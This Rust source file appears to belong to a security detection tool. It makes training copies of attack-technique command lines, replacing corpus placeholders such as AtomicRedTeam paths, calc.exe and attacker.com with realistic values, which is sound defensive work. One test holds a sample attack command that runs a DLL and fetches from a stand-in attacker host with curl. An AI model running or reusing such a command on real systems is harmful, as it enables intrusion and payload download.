//! Training copies with the placeholders of public corpora replaced by realistic values.
//!
//! The command lines a payload model learns from come from public collections — Atomic Red
//! Team, the LOLBAS site, GTFOBins, tldr pages — and each writes its examples with house
//! placeholders: `C:\AtomicRedTeam\atomics\…`, `…\ExternalPayloads\…`, `calc.exe` as the
//! payload, `attacker.com` and `10.10.10.10` as the far end, `path/to/file`, `example.com`.
//! They tell a model which collection a text came from, not what it does: keyed on them,
//! it scores well on the collections and worse on real telemetry, where none of them
//! appears. So for every training text that holds one, training adds a copy with each
//! placeholder replaced by one of a few realistic values (picked by a hash of the text,
//! so a training run is repeatable). The model then sees the same command with and without
//! the house style and learns what the two share. Scoring is unchanged: nothing is replaced
//! in the texts analysed.

/// A placeholder (matched in any ASCII case) and the values its copies take instead.
struct Placeholder {
    written: &'static str,
    instead: [&'static str; 3],
}

/// Longer placeholders first: one that contains another is replaced whole.
const PLACEHOLDERS: [Placeholder; 11] = [
    Placeholder {
        written: r"C:\Windows\Temp\file",
        instead: [
            r"C:\Users\Public\report",
            r"C:\ProgramData\Cache\update",
            r"D:\shares\ops\export",
        ],
    },
    Placeholder {
        written: "AtomicRedTeam",
        instead: ["SupportTools", "ITScripts", "Deploy"],
    },
    Placeholder {
        written: "ExternalPayloads",
        instead: ["Downloads", "Staging", "Packages"],
    },
    Placeholder {
        written: "atomic",
        instead: ["probe", "audit", "job"],
    },
    Placeholder {
        written: "attacker.com",
        instead: ["cdn-sync.net", "mail-relay.io", "files.brightpath.co"],
    },
    Placeholder {
        written: "10.10.10.10",
        instead: ["10.31.4.17", "192.168.40.12", "172.22.9.5"],
    },
    Placeholder {
        written: "calc.exe",
        instead: ["updater.exe", "helper.exe", "svchelp.exe"],
    },
    Placeholder {
        written: "example.org",
        instead: [
            "api.kelvor.net",
            "portal.meridian-ops.com",
            "files.brightpath.co",
        ],
    },
    Placeholder {
        written: "example.com",
        instead: ["portal.meridian-ops.com", "api.kelvor.net", "cdn-sync.net"],
    },
    Placeholder {
        written: "path/to",
        instead: ["home/dana/projects", "srv/app", "opt/data"],
    },
    Placeholder {
        written: r"path\to",
        instead: [r"Users\dana\Documents", r"ProgramData\App", r"data\share"],
    },
];

/// `text` with every placeholder replaced, or `None` when it holds none. One copy per text:
/// two or three, each with other values, ranked no better on held-out commands with the
/// placeholders masked, and a little worse without.
pub fn realistic_copy(text: &str) -> Option<String> {
    // A stable hash: the same pick for a text on every machine and release.
    let pick = warden_models::stats::stable_hash(text);
    let mut out: Option<String> = None;
    for (k, p) in PLACEHOLDERS.iter().enumerate() {
        let current = out.as_deref().unwrap_or(text);
        if !contains_ignore_ascii_case(current, p.written) {
            continue;
        }
        let value = p.instead[((pick >> (k * 2)) % 3) as usize];
        out = Some(replace_ignore_ascii_case(current, p.written, value));
    }
    out
}

fn contains_ignore_ascii_case(text: &str, needle: &str) -> bool {
    find_ignore_ascii_case(text, needle, 0).is_some()
}

/// The byte offset of `needle` (ASCII) in `text` at or after `from`, in any ASCII case.
fn find_ignore_ascii_case(text: &str, needle: &str, from: usize) -> Option<usize> {
    let (hay, pin) = (text.as_bytes(), needle.as_bytes());
    if pin.is_empty() || hay.len() < pin.len() {
        return None;
    }
    (from..=hay.len() - pin.len()).find(|&i| hay[i..i + pin.len()].eq_ignore_ascii_case(pin))
}

fn replace_ignore_ascii_case(text: &str, needle: &str, value: &str) -> String {
    let mut out = String::with_capacity(text.len() + 16);
    let mut at = 0;
    // The needle is ASCII, so every match starts and ends on a character boundary.
    while let Some(i) = find_ignore_ascii_case(text, needle, at) {
        out.push_str(&text[at..i]);
        out.push_str(value);
        at = i + needle.len();
    }
    out.push_str(&text[at..]);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn house_placeholders_become_realistic_values_in_any_case() {
        let t = r#"cmd /c C:\AtomicRedTeam\atomics\T1218\src\x.dll & start calc.exe & curl http://ATTACKER.com/a"#;
        let copy = realistic_copy(t).unwrap_or_else(|| panic!("placeholders found"));
        let lower = copy.to_ascii_lowercase();
        for gone in ["atomic", "calc.exe", "attacker.com"] {
            assert!(!lower.contains(gone), "{gone} left in {copy}");
        }
        // What is not a placeholder stays as written.
        assert!(copy.starts_with("cmd /c C:\\"));
        assert!(copy.contains(r"\T1218\src\x.dll & start "));
        // The same text always gets the same copy.
        assert_eq!(realistic_copy(t), Some(copy));
    }

    #[test]
    fn a_text_without_placeholders_gets_no_copy_and_unicode_is_kept() {
        assert_eq!(realistic_copy("ls -la /var/log"), None);
        let t = "cat ∕path/to/файл";
        assert_eq!(
            realistic_copy(t).map(|c| c.contains("файл") && !c.contains("path/to")),
            Some(true)
        );
        assert_eq!(find_ignore_ascii_case("ab", "abc", 0), None);
    }

    #[test]
    fn every_placeholder_is_replaced_by_a_value_free_of_placeholders() {
        for p in &PLACEHOLDERS {
            for v in p.instead {
                assert_eq!(realistic_copy(v), None, "{v} holds a placeholder");
            }
        }
    }
}
